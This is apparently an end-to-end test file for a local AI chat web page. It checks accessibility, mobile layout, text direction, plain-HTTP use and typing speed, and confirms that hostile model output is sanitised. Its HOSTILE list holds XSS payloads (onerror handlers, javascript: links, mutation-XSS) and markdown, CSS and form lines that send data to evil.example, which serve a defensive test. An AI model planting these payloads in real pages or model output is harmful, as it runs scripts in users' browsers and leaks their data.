"""Accessibility and safety of the page: assistive technology, phones, both directions, plain HTTP, hostile models."""

from __future__ import annotations

import json
import socket
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.browser import NEEDS_BROWSER, answered, axe_source, say, serving, until
from tests.e2e.browser import address as address
from tests.e2e.browser import browser as browser
from tests.e2e.browser import context as context
from tests.e2e.browser import page as page

pytestmark = NEEDS_BROWSER

HOSTILE = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "![x](https://evil.example/?q=secret)",
    "<svg onload='window.hit = 1'><style>*{background:url(https://evil.example/s)}</style></svg>",
    "[click](javascript:window.hit=1)",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hit=1&gt;'>",
    "<form action='https://evil.example'><input name=a><button>Go</button></form>",
    "<iframe src='https://evil.example'></iframe><object data='https://evil.example'></object>",
    "<a href='https://evil.example' ping='https://evil.example/ping'>a</a>",
    "<video src='https://evil.example/v' autoplay></video><link rel=stylesheet href='https://evil.example/c'>",
    "<div style='position:fixed;inset:0' class='primary' id='search'>over all</div>",
    "> " * 3000 + "deep",
    r"$\href{javascript:window.hit=1}{x}$ $\htmlStyle{position:fixed}{x}$ $\includegraphics{https://evil.example/x}$",
    r"$$\def\a{\a\a}\a$$ $$<img src=x onerror='window.hit = 1'>$$ \(\text{<img src=x onerror='window.hit = 1'>}\)",
    "```html\n<img src=x onerror='window.hit = 1'>\n```",
    "a" * 1_000_000,
    "```" + "\n`" * 500,
]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious(browser: Any, address: str, scheme: str):
    source = axe_source()
    context = browser.new_context(color_scheme=scheme, viewport={"width": 1200, "height": 800}, bypass_csp=True)
    page = context.new_page()
    page.set_default_timeout(40_000)
    page.goto(address)
    say(page, "Write a poem.")
    answered(page)
    page.get_by_role("button", name="Regenerate").click()  # so that the cached part of a prompt is looked at too
    page.get_by_text("2/2").wait_for()
    answered(page)
    page.evaluate(source)
    _check(page, "chat")
    page.get_by_role("button", name="Settings").click()
    _check(page, "settings")
    page.get_by_role("button", name="Cancel").click()
    page.get_by_role("button", name="Models").click()
    _check(page, "models")
    page.get_by_role("button", name="Close").click()
    page.get_by_role("button", name="Tokens").click()
    page.locator("button.token").first.wait_for()
    _check(page, "tokens")
    page.get_by_role("button", name="Close").click()
    page.get_by_role("link", name="Engine").click()
    page.get_by_role("img", name="KV pool").wait_for()
    _check(page, "engine")
    context.close()


def _check(page: Any, where: str) -> None:
    found = page.evaluate("async () => (await axe.run(document, {resultTypes: ['violations']})).violations")
    serious = [
        (each["id"], [node["target"] for node in each["nodes"]][:5])
        for each in found
        if each["impact"] in ("serious", "critical")
    ]
    assert not serious, (where, serious)


def test_a_phone_needs_no_scrolling_to_the_side(page: Any, address: str):
    page.goto(address)
    say(page, "Write a poem.")
    answered(page)
    for hash_name in ("", "#engine"):
        page.goto(f"{address}{hash_name}")
        page.get_by_role("link", name="Engine").wait_for()
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    small = page.evaluate(
        "[...document.querySelectorAll('.top button, .top a, .composer button')].filter((e) => e.offsetHeight < 44)"
        ".length"
    )
    assert small == 0


def test_text_has_its_own_direction(page: Any, address: str):
    page.goto(address)
    say(page, "Answer in Arabic.")
    page.get_by_text("مرحبا بالعالم").wait_for()
    directions = page.evaluate(
        "[...document.querySelectorAll('article .text')].map((e) => getComputedStyle(e).direction)"
    )
    assert directions == ["ltr", "rtl"]
    page.evaluate("document.documentElement.dir = 'rtl'")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_it_works_on_plain_http_in_a_lan(page: Any, tmp_path: Path):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # nothing is sent: it is only asked which address would be
        except OSError:
            pytest.skip("this machine has no address in a network")
        own = probe.getsockname()[0]
    with serving(tmp_path, "--host", "0.0.0.0", "--allow-unauthenticated") as url:
        page.goto(f"http://{own}:{url.rsplit(':', 1)[1].rstrip('/')}/")
        assert page.evaluate("isSecureContext") is False
        say(page, "Write a poem.")
        answered(page)
        page.get_by_role("button", name="Copy code").click()


def test_hostile_markdown_neither_runs_nor_sends_anything(page: Any, address: str):
    page.goto(address)
    nodes = {
        f"n{at}": {"id": f"n{at}", "parent": f"n{at - 1}" if at else "", "role": "assistant", "content": text}
        for at, text in enumerate(HOSTILE)
    }
    chat = {"title": "Hostile", "updated": 1, "nodes": nodes, "leaf": f"n{len(HOSTILE) - 1}"}
    page.get_by_role("button", name="Chats", exact=True).click()
    content = json.dumps({"stoker": 1, "chats": [chat]}).encode()
    page.get_by_label("Import chats").set_input_files(
        {"name": "h.json", "mimeType": "application/json", "buffer": content}
    )
    page.get_by_text("1 chat was imported.").wait_for()
    page.get_by_role("log").get_by_text("deep").wait_for()
    page.get_by_role("log").get_by_text("click").click(force=True)
    left = page.evaluate(
        "document.querySelectorAll('.log :is(script, img, svg, form, iframe, object, style, video, link, [style], "
        "[onerror], [onload], [ping], a[href^=javascript])').length"
    )
    assert left == 0
    assert page.evaluate("window.hit") is None


def test_typing_is_quick_beside_500_messages(page: Any, address: str):
    page.goto(address)
    text = "Some **bold** words and `code`. " * 60
    nodes = {
        f"n{at}": {
            "id": f"n{at}",
            "parent": f"n{at - 1}" if at else "",
            "role": "assistant" if at % 2 else "user",
            "content": text,
        }
        for at in range(500)
    }
    content = json.dumps(
        {"stoker": 1, "chats": [{"title": "Long", "updated": 1, "nodes": nodes, "leaf": "n499"}]}
    ).encode()
    page.get_by_role("button", name="Chats", exact=True).click()
    page.get_by_label("Import chats").set_input_files(
        {"name": "l.json", "mimeType": "application/json", "buffer": content}
    )
    page.get_by_text("1 chat was imported.").wait_for()
    until(page, "document.querySelectorAll('article').length === 500")
    quickest = page.evaluate("""async () => {
      const area = document.querySelector('[aria-label=Message]');
      const times = [];
      for (let at = 0; at < 15; at += 1) {
        const began = performance.now();
        area.value += 'x';
        area.dispatchEvent(new InputEvent('input', { bubbles: true }));
        area.getBoundingClientRect();
        times.push(performance.now() - began);
        await new Promise((resolve) => setTimeout(resolve));
      }
      return Math.min(...times);
    }""")
    assert quickest < 50, "the quickest of many: a busy machine is no fault of the page"
